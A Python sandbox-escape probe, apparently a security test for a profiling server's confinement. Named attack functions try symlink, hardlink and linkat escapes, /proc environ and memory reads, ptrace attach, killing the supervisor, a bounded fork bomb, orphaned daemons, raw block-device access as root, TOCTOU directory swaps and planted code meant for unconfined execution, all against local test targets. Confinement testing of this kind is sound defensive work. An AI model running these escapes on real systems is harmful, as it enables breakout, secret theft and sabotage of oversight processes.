"""Confined side of the probe: runs INSIDE profile_command (python atk.py NAME ...).
Each attack records what happened in results/NAME.json under its working directory."""
import ctypes, errno, glob, json, os, signal, socket, subprocess, sys, time

CFG = json.load(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "probe_cfg.json")))
V = CFG["victim"]
OUT = {}


def rec(key, fn):
    try:
        OUT[key] = "OK: " + repr(fn())[:300]
    except BaseException as e:  # noqa: BLE001
        OUT[key] = "ERR: " + type(e).__name__ + ": " + str(e)[:200]


def w(path, text="pwned\n", mode="w"):
    with open(path, mode) as f:
        f.write(text)
    return path


def r(path):
    with open(path, "rb") as f:
        return f.read(200)


def a_baseline():
    rec("write_victim", lambda: w(V + "/baseline_pwn.txt"))
    rec("read_victim", lambda: r(V + "/secret.txt"))
    rec("read_ws2", lambda: r(CFG["ws2"] + "/secret.txt"))
    rec("read_home_file", lambda: r(CFG["home_secret"]))
    rec("write_via_proc_self_root", lambda: w("/proc/self/root" + V + "/root_pwn.txt"))
    rec("write_via_proc_self_cwd_dotdot", lambda: w("/proc/self/cwd/../victim/cwd_pwn.txt"))


def a_links():
    rec("hardlink_victim_into_ws", lambda: os.link(V + "/secret.txt", "hl_secret.txt"))
    if os.path.exists("hl_secret.txt") and os.stat("hl_secret.txt").st_nlink > 1:
        rec("append_via_hardlink", lambda: w("hl_secret.txt", "APPENDED\n", "a"))
    rec("rename_victim_into_ws", lambda: os.rename(V + "/secret.txt", "stolen.txt"))
    w("mine.txt")
    rec("rename_ws_file_out", lambda: os.rename("mine.txt", V + "/moved_pwn.txt"))
    rec("symlink_out_then_write", lambda: (os.symlink(V + "/sym_pwn.txt", "symout"), w("symout")))
    rec("mv_binary", lambda: subprocess.run(["mv", "mine.txt", V + "/mv_pwn.txt"], capture_output=True, text=True).stderr)

    def tmpfile_linkat():
        fd = os.open(os.environ.get("TMPDIR", "/tmp"), os.O_TMPFILE | os.O_WRONLY, 0o600)
        os.write(fd, b"tmpfile pwned\n")
        libc = ctypes.CDLL(None, use_errno=True)
        rc = libc.linkat(-100, f"/proc/self/fd/{fd}".encode(), -100, (V + "/tmpfile_pwn.txt").encode(), 0x400)
        if rc != 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return "linked"

    rec("otmpfile_linkat_out", tmpfile_linkat)


def a_fds():
    fds = {}
    for n in sorted(os.listdir("/proc/self/fd"), key=int):
        try:
            fds[n] = os.readlink(f"/proc/self/fd/{n}")
        except OSError as e:
            fds[n] = str(e)
    OUT["inherited_fds"] = fds
    for n, t in fds.items():
        if t.startswith("/") and not t.startswith("/proc"):
            rec(f"reopen_fd_{n}_append", lambda n=n: w(f"/proc/self/fd/{n}", "", "a"))


def ancestors():
    out, pid = [], os.getpid()
    while pid > 1:
        try:
            st = open(f"/proc/{pid}/stat").read()
            ppid = int(st.rsplit(")", 1)[1].split()[1])
            cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ")[:150].decode()
        except OSError:
            break
        out.append((pid, cmd))
        pid = ppid
    return out


def a_proc():
    anc = ancestors()
    OUT["ancestors"] = anc
    targets = {"victim_proc": CFG["victim_pid"], "server2": CFG["server2_pid"]}
    for pid, cmd in anc[1:]:
        if "kprof_mcp.server" in cmd:
            targets["server"] = pid
        elif "supervisor" not in targets:
            targets["supervisor"] = pid
    for name, pid in targets.items():
        rec(f"{name}_cmdline", lambda pid=pid: open(f"/proc/{pid}/cmdline", "rb").read()[:200])
        rec(f"{name}_environ", lambda pid=pid: open(f"/proc/{pid}/environ", "rb").read()[:300])
        rec(f"{name}_readlink_cwd", lambda pid=pid: os.readlink(f"/proc/{pid}/cwd"))
        rec(f"{name}_listdir_fd", lambda pid=pid: os.listdir(f"/proc/{pid}/fd"))
        rec(f"{name}_write_via_cwd", lambda pid=pid: w(f"/proc/{pid}/cwd/proc_cwd_pwn_{pid}.txt"))
        rec(f"{name}_write_via_root", lambda pid=pid: w(f"/proc/{pid}/root{V}/proc_root_pwn_{pid}.txt"))
        rec(f"{name}_mem_read", lambda pid=pid: open(f"/proc/{pid}/mem", "rb").read(1))
        libc = ctypes.CDLL(None, use_errno=True)

        def ptrace(pid=pid):
            rc = libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
            if rc != 0:
                raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
            libc.ptrace(17, pid, 0, 0)  # detach
            return "attached"

        rec(f"{name}_ptrace_attach", ptrace)
    rec("signal_victim_SIGSTOP", lambda: os.kill(CFG["victim_pid"], signal.SIGSTOP))
    rec("signal_server_0", lambda: os.kill(targets.get("server", 1), 0))
    OUT["targets"] = targets


def a_ipc():
    def abstract():
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(3)
        s.connect("\0" + CFG["abstract_name"])
        s.sendall(b"hello-from-sandbox-abstract")
        return s.recv(100)

    def pathname():
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(3)
        s.connect(CFG["unix_path"])
        s.sendall(b"hello-from-sandbox-path")
        return s.recv(100)

    def tcp_connect():
        s = socket.create_connection(("127.0.0.1", CFG["tcp_port"]), timeout=3)
        s.sendall(b"hello-from-sandbox-tcp")
        return s.recv(100)

    def tcp_listen():
        s = socket.socket()
        s.bind(("0.0.0.0", 0))
        s.listen()
        return s.getsockname()

    def bind_pathname_outside():
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind(V + "/planted.sock")
        return "bound"

    def udp_send():
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hello-from-sandbox-udp",
                                                                ("127.0.0.1", CFG["udp_port"]))
        return "sent"

    rec("udp_send_localhost", udp_send)
    rec("abstract_unix_connect", abstract)
    rec("pathname_unix_connect", pathname)
    rec("tcp_connect_localhost", tcp_connect)
    rec("tcp_listen_any", tcp_listen)
    rec("unix_bind_outside", bind_pathname_outside)


def a_places():
    for p in ["/dev/shm/kprobe_pwn", "/tmp/kprobe_global_pwn", "/var/tmp/kprobe_pwn",
              os.path.expanduser("~/kprobe_home_pwn"), f"/run/user/{os.getuid()}/kprobe_pwn"]:
        rec("write_" + p, lambda p=p: w(p))
    rec("listdir_tmp", lambda: sorted(os.listdir("/tmp"))[:30])
    tmp = os.environ.get("TMPDIR", "")
    OUT["TMPDIR"] = tmp
    priv_root = os.path.dirname(os.path.dirname(tmp))
    rec("listdir_private_root_parent", lambda: os.listdir(os.path.dirname(priv_root)))
    rec("glob_other_private", lambda: glob.glob("/tmp/kprof-*/**", recursive=True)[:20])
    rec("read_other_job_tmp", lambda: r(CFG["other_tmp_secret"]) if CFG.get("other_tmp_secret") else None)
    rec("statvfs_tmp", lambda: (lambda s: s.f_bavail * s.f_frsize // 2**20)(os.statvfs(tmp)))

    def big():
        with open(os.path.join(tmp, "big"), "wb") as f:
            for _ in range(256):
                f.write(b"\0" * 2**20)
        return "256 MiB written"

    rec("write_256MiB_private_tmp", big)
    import resource
    OUT["rlimits"] = {k: resource.getrlimit(getattr(resource, k)) for k in
                      ["RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_AS", "RLIMIT_NOFILE", "RLIMIT_CORE"]}
    OUT["env"] = dict(os.environ)


DAEMON = r"""
import os, sys, time
tag, hb = sys.argv[1], sys.argv[2]
if os.fork(): os._exit(0)
os.setsid()
if os.fork(): os._exit(0)
signal_ok = __import__('signal').signal(1, __import__('signal').SIG_IGN)
t0 = time.time()
while time.time() - t0 < 90:
    with open(hb, 'w') as f: f.write(str(time.time()))
    time.sleep(0.5)
"""

HYDRA = r"""
import os, sys, time
t0 = time.time()
while time.time() - t0 < 60:
    pid = os.fork()
    if pid: os._exit(0)
    os.setsid()
    time.sleep(0.02)
"""

NESTED = r"""
import os, sys, time, ctypes
ctypes.CDLL(None).prctl(36, 1)  # PR_SET_CHILD_SUBREAPER
if os.fork() == 0:
    os.setsid()
    time.sleep(90); os._exit(0)
time.sleep(90)
"""


def a_escape(kill_super="no"):
    tag = CFG["tag"]
    env = {**os.environ, "KPROBE_TAG": tag}
    hb = os.path.abspath("results/heartbeat")
    subprocess.Popen([sys.executable, "-c", DAEMON, tag, hb], env=env, start_new_session=True)
    subprocess.Popen([sys.executable, "-c", HYDRA], env=env, start_new_session=True)
    subprocess.Popen([sys.executable, "-c", NESTED], env=env)
    time.sleep(1.5)
    if kill_super == "yes":
        sup = ancestors()[1][0]
        rec("kill_supervisor_SIGKILL", lambda: os.kill(sup, signal.SIGKILL))
    OUT["escape_started"] = True


def a_outtree():
    for p in CFG["other_results"]:
        rec("overwrite_" + p, lambda p=p: w(p, '{"forged": true}\n', "a"))


def a_finalise_swap():
    """Replace this run's own out/ directory by a link leading outside, just before exiting, so the
    server's post-processing (unconfined) writes through it."""
    parts = sorted(glob.glob(CFG["ws"] + "/out/profiles/*/command/**/*.partial", recursive=True), key=os.path.getmtime)
    OUT["partials"] = parts[-3:]
    d = parts[-1]
    rec("symlink_output_file", lambda: (os.replace(d + "/command_output.txt", d + "/co.bak")
                                        if os.path.exists(d + "/command_output.txt") else None,
                                        os.symlink(V + "/secret.txt", d + "/command_output.txt")))
    rec("swap_run_dir_for_link", lambda: (os.rename(d, d + ".moved"), os.symlink(V + "/swapdir", d)))


def a_root():
    """The server runs as root here: does the sandbox still hold against root's own powers?"""
    import stat
    OUT["uid"] = os.getuid()
    # in results/ (a directory the command may write: the cwd's root takes no new file since 2026-11-26)
    rec("mknod_char_1_3_in_cwd", lambda: os.mknod("results/charnode", stat.S_IFCHR | 0o600, os.makedev(1, 3)))
    dev = os.stat("/").st_dev
    OUT["root_dev"] = (os.major(dev), os.minor(dev))
    rec("mknod_block_of_root_fs_in_cwd", lambda: os.mknod("results/blknode", stat.S_IFBLK | 0o600, dev))
    rec("read_block_node", lambda: r("results/blknode")[:16])
    rec("open_proc_sys_kernel_hostname_for_write_(no_write)", lambda: open("/proc/sys/kernel/hostname", "r+").close())
    rec("open_sys_kernel_for_write_(no_write)", lambda: open("/sys/kernel/mm/transparent_hugepage/enabled", "r+").close())
    rec("append_other_dev_shm_file", lambda: w(CFG["shm_file"], "TAMPERED\n", "a"))
    rec("chown_ws_file", lambda: (w("results/own.txt"), os.chown("results/own.txt", 12345, 12345)))
    rec("chroot", lambda: os.chroot("results"))
    rec("create_file_at_cwd_root", lambda: w("new_at_root.txt"))
    rec("unshare_user_ns", lambda: ctypes.CDLL(None, use_errno=True).unshare(0x10000000) or "ok")


def a_bomb(most="1500"):
    """A fork bomb bounded by itself: fork `sleep 30` until fork fails or `most` are running."""
    n, err = 0, None
    for _ in range(int(most)):
        try:
            pid = os.fork()
        except OSError as e:
            err = type(e).__name__ + ": " + str(e)
            break
        if pid == 0:
            os.execv("/bin/sleep", ["sleep", "30"])
        n += 1
    OUT["forked"] = n
    OUT["fork_error"] = err


def a_plant():
    """Confined command writes a kernel package into the workspace; the client then calls
    profile_kernel on it (runs outside the sandbox?)."""
    src = open("evilkern.py").read().replace("profile_kernel_pwn.txt", "chained_pwn.txt")
    rec("plant_at_root", lambda: w("chained.py", src))  # refused since 2026-11-26 (the cwd's root)
    w("kern/chained.py", src)  # a directory of the workspace the command may write
    OUT["planted"] = True


def a_sleep(secs="20"):
    time.sleep(float(secs))


def a_swap_cwd_of_next():
    """While this job runs, swap the directory the NEXT queued job runs in for a link to outside."""
    time.sleep(3)
    rec("swap_sub_for_link", lambda: (os.rename("sub", "sub.orig"), os.symlink(V + "/swapdir", "sub")))
    time.sleep(8)


if __name__ == "__main__":
    name = sys.argv[1]
    os.makedirs("results", exist_ok=True)
    try:
        globals()["a_" + name](*sys.argv[2:])
    finally:
        OUT["cwd"] = os.getcwd()
        with open(f"results/{name}.json", "w") as f:
            json.dump(OUT, f, indent=1, default=str)
